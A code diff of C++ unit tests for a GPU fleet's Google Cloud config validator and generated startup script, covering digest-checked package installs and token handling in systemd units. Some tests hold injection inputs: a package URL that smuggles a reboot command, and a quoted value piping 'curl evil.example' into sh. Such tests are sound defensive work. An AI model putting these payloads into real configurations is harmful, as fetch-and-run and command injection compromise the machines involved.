@@ -1,5 +1,5 @@
 // The gce config: what a user can get wrong is refused with what to fix; the startup script
-// installs the terraform fleet's own unit and enrols with the zone as its region.
+// installs the agent's packages (whose units it starts) and enrols with the zone as its region.
 #include <fstream>
 #include <string>
 #include <utility>
@@ -56,7 +56,13 @@ TEST(GceConfig, MistakesAreNamed) {
   expect_problem(j, "server_url");
   j = minimal();
   j["agent_download_url"] = "https://example.com/kfleet-agent";
-  expect_problem(j, "agent_sha256");
+  expect_problem(j, "agent_packages");
+  j = minimal();
+  j["agent_packages"] = {{{"url", "https://example.com/kfleet-agent.deb"}, {"sha256", "abc"}}};
+  expect_problem(j, "sha256");
+  j = minimal();
+  j["agent_packages"] = {{{"url", "https://example.com/a.deb'; reboot; '"}, {"sha256", std::string(64, 'a')}}};
+  expect_problem(j, "plain http(s) URL");
   j = minimal();
   j["prices"] = {{"g2-standard-4", "cheap"}};
   expect_problem(j, "number");
@@ -66,9 +72,14 @@ TEST(GceConfig, MistakesAreNamed) {
   expect_problem(j, "server_ca_pem");
 }
 
-TEST(GceConfig, TheStartupScriptInstallsTheFleetsUnitAndEnrolsWithTheZone) {
-  auto c = gce_config_from_json(minimal());
-  ASSERT_TRUE(c.ok());
+TEST(GceConfig, TheStartupScriptInstallsThePackagesAndEnrolsWithTheZone) {
+  auto j = minimal();
+  const std::string a(64, 'a'), k(64, 'b');
+  j["agent_packages"] = {{{"url", "https://dl.example.com/kfleet-agent_0.1.0-1_amd64.deb"}, {"sha256", a}},
+                         {{"url", "https://dl.example.com/kfleet-kernels_0.1.0-1_all.deb"}, {"sha256", k}}};
+  auto c = gce_config_from_json(j);
+  ASSERT_TRUE(c.ok()) << c.error().message;
+  ASSERT_FALSE(gce_config_problem(*c).has_value()) << *gce_config_problem(*c);
   c->server_url = "https://kfleet.example.com";
   c->enrol_token = "enrol-0123456789abcdef";
   const std::string s = gce_startup_script(*c, "southamerica-east1-c");
@@ -79,12 +90,29 @@ TEST(GceConfig, TheStartupScriptInstallsTheFleetsUnitAndEnrolsWithTheZone) {
                            "chmod 0600 /etc/kfleet/agent.env", "Metadata-Flavor: Google",
                            "for gpu in $(seq 0 0); do\n  systemctl enable --now \"kfleet-agent@$gpu.service\"\ndone\n"})
     EXPECT_NE(s.find(want), std::string::npos) << want << "\n" << s;
-  // The unit is the terraform fleet's per-GPU template, byte for byte (up to trailing newlines).
-  std::ifstream in(std::string(KFLEET_SOURCE_DIR) + "/terraform/modules/l4-agents/files/kfleet-agent@.service");
-  std::string unit((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
-  while (!unit.empty() && unit.back() == '\n') unit.pop_back();
-  ASSERT_FALSE(unit.empty());
-  EXPECT_NE(s.find("<<'UNIT'\n" + unit + "\nUNIT\n"), std::string::npos) << s;
+  // Each package is checked against its digest before apt installs them; the units are the
+  // package's (none written here); the toolkit and --check come before the agents start.
+  const auto get_a = s.find("curl -fsSL --retry 5 -o \"$debs/1.deb\" 'https://dl.example.com/kfleet-agent_0.1.0-1_amd64.deb'\n");
+  const auto sum_a = s.find("echo '" + a + "  '\"$debs/1.deb\" | sha256sum -c -\n");
+  const auto sum_k = s.find("echo '" + k + "  '\"$debs/2.deb\" | sha256sum -c -\n");
+  const auto install = s.find("apt-get install -y -q -o Dpkg::Options::=--force-confold \"$debs\"/*.deb\n");
+  const auto cuda = s.find("apt-get install -y -q cuda-toolkit");
+  const auto env = s.find("cat > /etc/kfleet/agent.env <<ENV\n");
+  const auto check = s.find("kfleet-agent --check --server \"$KFLEET_SERVER\"");
+  const auto start = s.find("systemctl enable --now");
+  for (auto at : {get_a, sum_a, sum_k, install, cuda, env, check, start}) ASSERT_NE(at, std::string::npos) << s;
+  EXPECT_LT(get_a, sum_a);
+  EXPECT_LT(sum_k, install) << "nothing is installed before every digest matched";
+  EXPECT_LT(install, env) << "agent.env replaces the package's default";
+  EXPECT_LT(env, check);
+  EXPECT_LT(check, start);
+  EXPECT_EQ(s.find("/etc/systemd/system/"), std::string::npos) << "the package brings the units";
+  EXPECT_EQ(s.find("/usr/local/bin/kfleet-agent"), std::string::npos) << s;
+  // Without packages: they must be in the image.
+  c->agent_packages.clear();
+  const std::string baked = gce_startup_script(*c, "us-central1-a");
+  EXPECT_EQ(baked.find("curl -fsSL"), std::string::npos);
+  EXPECT_NE(baked.find("command -v kfleet-agent >/dev/null ||\n  { echo 'kfleet-agent is not installed"), std::string::npos);
 }
 
 // A multi-GPU machine type brings one agent per GPU, each its own kfleet-agent@N pinned to GPU N
@@ -99,10 +127,8 @@ TEST(GceConfig, AMultiGpuMachineStartsOneAgentPerGpu) {
     EXPECT_EQ(gce_gpus_per_instance(*c), gpus) << type;
     const std::string s = gce_startup_script(*c, "us-central1-a");
     EXPECT_NE(s.find("for gpu in $(seq 0 " + std::to_string(gpus - 1) + "); do\n"), std::string::npos) << s;
-    EXPECT_NE(s.find("cat > /etc/systemd/system/kfleet-agent@.service <<'UNIT'\n"), std::string::npos);
-    EXPECT_NE(s.find("--gpu %i --host-id ${KFLEET_INSTANCE_ID}"), std::string::npos) << s;
-    for (const char* single : {"/etc/systemd/system/kfleet-agent.service", "enable --now kfleet-agent.service"})
-      EXPECT_EQ(s.find(single), std::string::npos) << "no single-agent unit beside the template";
+    EXPECT_NE(s.find("KFLEET_HOST_ID=$instance_name\n"), std::string::npos) << s;
+    EXPECT_EQ(s.find("enable --now kfleet-agent.service"), std::string::npos) << "no single agent beside the template's";
   }
   // An explicit accelerator count counts where the machine type does not say.
   j["machine_type"] = "a2-highgpu-2g";
@@ -192,24 +218,27 @@ TEST(GceConfig, TheStartupScriptGivesTheAgentsAPythonWithTorchAndTriton) {
   EXPECT_NE(why->find("python_packages: 'triton; curl evil.example | sh'"), std::string::npos) << *why;
 }
 
-// Both systemd units start the agent with no token on its command line: the agent reads the
-// enrolment token from its own 0600 file (--enrol-token-file), never from its environment or argv.
+// Both systemd units of the package start the agent, and its --check before it, with no token on
+// their command lines: the agent reads the enrolment token from its own 0600 file
+// (--enrol-token-file), never from its environment or argv.
 TEST(AgentUnits, NoTokenOnTheCommandLine) {
   for (const char* name : {"kfleet-agent.service", "kfleet-agent@.service"}) {
-    std::ifstream in(std::string(KFLEET_SOURCE_DIR) + "/terraform/modules/l4-agents/files/" + name);
+    std::ifstream in(std::string(KFLEET_SOURCE_DIR) + "/packaging/systemd/" + name);
     ASSERT_TRUE(in) << name;
-    int exec = 0;
+    int exec = 0, check = 0;
     bool env_file = false;
     for (std::string line; std::getline(in, line);) {
       if (line == "EnvironmentFile=/etc/kfleet/agent.env") env_file = true;
-      if (line.rfind("ExecStart=", 0) != 0) continue;
-      ++exec;
+      if (line.rfind("ExecStartPre=/usr/bin/kfleet-agent --check ", 0) == 0) ++check;
+      else if (line.rfind("ExecStart=/usr/bin/kfleet-agent ", 0) == 0) ++exec;
+      else continue;
       for (const char* bad : {"TOKEN", "--enrol-token ", "--enrol-token=", "--tls-key"})
         EXPECT_EQ(line.find(bad), std::string::npos) << name << ": " << line;
       EXPECT_NE(line.find("--enrol-token-file /etc/kfleet/enrol.token"), std::string::npos)
           << name << ": " << line;
     }
     EXPECT_EQ(exec, 1) << name;
+    EXPECT_EQ(check, 1) << name << ": --check runs before the agent";
     EXPECT_TRUE(env_file) << name << " must read /etc/kfleet/agent.env";
   }
 }
